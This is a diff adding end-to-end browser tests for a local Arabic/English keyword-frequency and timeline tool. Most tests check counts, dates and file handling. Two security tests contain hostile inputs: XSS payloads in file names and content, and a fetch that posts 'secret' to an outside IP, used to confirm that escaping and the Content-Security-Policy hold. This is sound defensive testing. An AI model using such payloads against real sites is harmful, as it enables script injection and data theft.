@@ -1,0 +1,167 @@
+// The page end to end in real Chromium: files in through the picker, drag and drop and the
+// sample button; keyword table, timeline and document list out; nothing sent anywhere.
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { copyFile, mkdtemp, readdir, utimes } from 'node:fs/promises';
+import { existsSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { root } from '../../scripts/build.mjs';
+import { openPage, startBrowser, waitLoaded } from './harness.mjs';
+
+const FIXTURES = join(root, 'tests', 'fixtures', 'corpus');
+const MARSAD = join(root, 'target', 'release', 'marsad');
+let browser;
+let files;
+
+before(async () => {
+  browser = await startBrowser();
+  // A copy whose undated note carries a known modification time, as a user's file would.
+  const dir = await mkdtemp(join(tmpdir(), 'marsad-fixtures-'));
+  files = [];
+  for (const name of (await readdir(FIXTURES)).sort()) {
+    await copyFile(join(FIXTURES, name), join(dir, name));
+    files.push(join(dir, name));
+  }
+  const noon = new Date(2021, 4, 3, 12, 0, 0);
+  await utimes(join(dir, 'notes-undated.txt'), noon, noon);
+});
+
+after(async () => {
+  await browser?.close();
+});
+
+const rows = (page, table) =>
+  page.$$eval(`${table} tbody tr`, (trs) => trs.map((tr) => [...tr.cells].map((td) => td.textContent.trim())));
+
+async function loadFixtures() {
+  const { page, problems } = await openPage(browser);
+  await page.setInputFiles('#file-input', files);
+  await waitLoaded(page);
+  return { page, problems };
+}
+
+test('fixtures through the file picker give the hand-counted keywords, timeline and dates', async () => {
+  const { page, problems } = await loadFixtures();
+  assert.equal(await page.textContent('#status'), 'Loaded 5 of 6 files, 1 could not be read (listed below).');
+  assert.match(await page.textContent('#errors'), /^broken\.txt: not a text file: binary data/);
+
+  const keywords = await rows(page, '#keyword-table');
+  const [rank, term, count, docs, forms] = keywords[0];
+  assert.deepEqual([rank, term, count, docs], ['1', 'الموصل', '12', '4']);
+  for (const form of ['الموصل ×9', 'بالموصل ×1', 'للموصل ×1', 'والموصل ×1']) assert.ok(forms.includes(form), forms);
+  assert.ok(!keywords.some(([, t]) => ['في', 'the', 'of'].includes(t)), 'stopwords are left out');
+
+  // The term defaults to the top keyword; 2 March to 3 May is 62 days, so daily buckets.
+  await page.waitForSelector('#chart[data-points="63"]');
+  assert.equal(await page.getAttribute('#chart', 'data-bucket'), 'day');
+  await page.selectOption('#bucket-select', 'month');
+  await page.waitForSelector('#chart[data-points="3"]');
+  assert.deepEqual(await rows(page, '#timeline-table'), [
+    ['2021-03-01', '9', '2', '2'],
+    ['2021-04-01', '2', '2', '1'],
+    ['2021-05-01', '1', '1', '1'],
+  ]);
+  const canvas = await page.$eval('#chart canvas', (c) => [c.width, c.height]);
+  assert.ok(canvas[0] > 0 && canvas[1] > 0, `chart canvas ${canvas}`);
+
+  const documents = await rows(page, '#document-table');
+  const byName = Object.fromEntries(documents.map((r) => [r[0], r]));
+  assert.deepEqual(byName['2021-04-20-report-cp1256.txt'].slice(1, 5), ['2021-04-20', 'file name', '21', 'windows-1256']);
+  assert.deepEqual(byName['notes-undated.txt'].slice(1, 3), ['2021-05-03', 'last modified (less reliable)']);
+  assert.equal(await page.textContent('#dating'), 'Dates: 4 from file names, 1 from last-modified times (less reliable).');
+
+  assert.deepEqual(problems, []);
+  assert.deepEqual(browser.foreignRequests(), []);
+  await page.close();
+});
+
+test('the keyword table in the browser equals the native CLI on the same files', async () => {
+  assert.ok(existsSync(MARSAD), `${MARSAD} is missing: npm test builds it with cargo build --release`);
+  const cli = spawnSync(MARSAD, ['freq', '--json', '--limit', '50', ...files], { encoding: 'utf8' });
+  // Exit 1: the broken file is reported on stderr and the other five are counted.
+  assert.equal(cli.status, 1, cli.stderr);
+  assert.match(cli.stderr, /broken\.txt: not a text file/);
+  const native = JSON.parse(cli.stdout);
+  const { page } = await loadFixtures();
+  const shown = (await rows(page, '#keyword-table')).map(([, term, count, docs]) => [term, Number(count), Number(docs)]);
+  assert.equal(shown.length, native.length);
+  assert.deepEqual(shown, native.map((k) => [k.display, k.count, k.docs]));
+  await page.close();
+});
+
+test('choosing a keyword draws its timeline', async () => {
+  const { page } = await loadFixtures();
+  await page.click('#keyword-table button.term >> text=Mosul');
+  assert.equal(await page.inputValue('#term-input'), 'Mosul');
+  await page.waitForFunction(() => document.querySelector('#chart .u-title')?.textContent.includes('Mosul'));
+  const counts = (await rows(page, '#timeline-table')).map((r) => Number(r[1]));
+  assert.equal(counts.reduce((a, b) => a + b, 0), 4);
+  await page.fill('#term-input', 'تنظيم الدولة');
+  await page.click('#timeline-form button[type=submit]');
+  await page.waitForFunction(() => document.querySelector('#timeline-error').textContent.includes('several words'));
+  await page.close();
+});
+
+test('files dropped on the page are loaded', async () => {
+  const { page, problems } = await openPage(browser);
+  await page.evaluate(() => {
+    const transfer = new DataTransfer();
+    transfer.items.add(new File(['داعش يخسر الموصل. وداعش ينسحب من الموصل'], '2017-07-10-a.txt', { type: 'text/plain' }));
+    transfer.items.add(new File(['Mosul falls. ISIS loses Mosul.'], '2017-07-11-b.txt', { type: 'text/plain' }));
+    transfer.items.add(new File(['%PDF-1.7'], 'scan.pdf', { type: 'application/pdf' }));
+    document.querySelector('#drop-zone').dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }));
+  });
+  await waitLoaded(page);
+  assert.equal(await page.textContent('#status'), 'Loaded 2 of 3 files, 1 could not be read (listed below).');
+  assert.match(await page.textContent('#errors'), /scan\.pdf: not read: only \.txt files/);
+  const top = (await rows(page, '#keyword-table')).slice(0, 2).map((r) => r.slice(1, 3));
+  // Equal counts are ordered by key, Latin before Arabic.
+  assert.deepEqual(top, [['Mosul', '2'], ['الموصل', '2']]);
+  assert.deepEqual(problems, []);
+  await page.close();
+});
+
+test('the sample corpus is one click away', async () => {
+  const { page, problems } = await openPage(browser);
+  await page.click('#sample-button');
+  await waitLoaded(page);
+  assert.equal(await page.textContent('#status'), 'Loaded 10 of 10 files.');
+  const [first] = await rows(page, '#keyword-table');
+  assert.equal(first[1], 'السد');
+  // 12 January to 22 June 2023: monthly buckets, January to June.
+  await page.waitForSelector('#chart[data-points="6"]');
+  assert.deepEqual(problems, []);
+  assert.deepEqual(browser.foreignRequests(), []);
+  await page.close();
+});
+
+test('document text and file names are shown as text, never run as HTML', async () => {
+  const { page, problems } = await openPage(browser);
+  const hostile = '<img src=x onerror="window.__pwned=1">';
+  await page.setInputFiles('#file-input', [
+    { name: `${hostile}.txt`, mimeType: 'text/plain', buffer: Buffer.from('<script>window.__pwned=2</script> <b onclick=x>bold</b>') },
+    { name: `${hostile}.png`, mimeType: 'image/png', buffer: Buffer.from('x') },
+  ]);
+  await waitLoaded(page);
+  assert.equal(await page.evaluate(() => window.__pwned), undefined);
+  assert.equal(await page.$$eval('main img, main script, main b', (n) => n.length), 0);
+  assert.ok((await page.textContent('#document-table')).includes(hostile));
+  assert.ok((await page.textContent('#errors')).includes(hostile));
+  assert.ok((await rows(page, '#keyword-table')).some(([, term]) => term === 'script'));
+  assert.deepEqual(problems, []);
+  await page.close();
+});
+
+test('the Content-Security-Policy blocks connections to any other origin', async () => {
+  const { page } = await openPage(browser);
+  const result = await page.evaluate(async () => {
+    const violation = new Promise((resolve) => document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true }));
+    const fetched = await fetch('http://192.0.2.1/collect', { method: 'POST', body: 'secret' }).then(() => 'sent', () => 'blocked');
+    return { fetched, directive: await violation };
+  });
+  assert.deepEqual(result, { fetched: 'blocked', directive: 'connect-src' });
+  assert.ok(!browser.requests.some((u) => u.includes('192.0.2.1')), 'the blocked request never left');
+  await page.close();
+});
